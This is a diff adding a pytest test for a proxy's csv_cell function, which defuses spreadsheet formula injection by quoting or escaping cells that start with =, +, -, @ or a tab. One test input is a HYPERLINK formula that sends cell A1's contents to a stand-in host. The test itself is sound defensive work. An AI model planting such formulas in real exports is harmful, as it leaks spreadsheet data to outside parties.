@@ -10,6 +10,7 @@ from proxy.inputs import canonical_target
 from proxy.inputs import check_body_framing
 from proxy.inputs import check_host
 from proxy.inputs import check_recorded_value
+from proxy.inputs import csv_cell
 from proxy.inputs import other_readings
 from proxy.inputs import recordable
 from proxy.inputs import target_problem
@@ -243,3 +244,22 @@ def test_other_readings_of_a_path(target: str, readings: tuple[str, ...]) -> Non
 def test_what_is_recorded_from_the_wire_has_no_control_character(raw: str, recorded: str) -> None:
     assert recordable(raw) == recorded
     assert recordable(raw).isprintable()
+
+
+@pytest.mark.parametrize(
+    ("raw", "cell"),
+    [
+        (
+            '=HYPERLINK("https://x.example/?"&A1,"details")',
+            '\'=HYPERLINK("https://x.example/?"&A1,"details")',
+        ),
+        ("+1+2", "'+1+2"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("\t=1+2", "\\t=1+2"),  # escaped, so no longer a formula
+        ("acct=1", "acct=1"),
+        ("https://site-a.test/a.jpg", "https://site-a.test/a.jpg"),
+    ],
+)
+def test_a_csv_cell_is_never_a_spreadsheet_formula(raw: str, cell: str) -> None:
+    assert csv_cell(raw) == cell
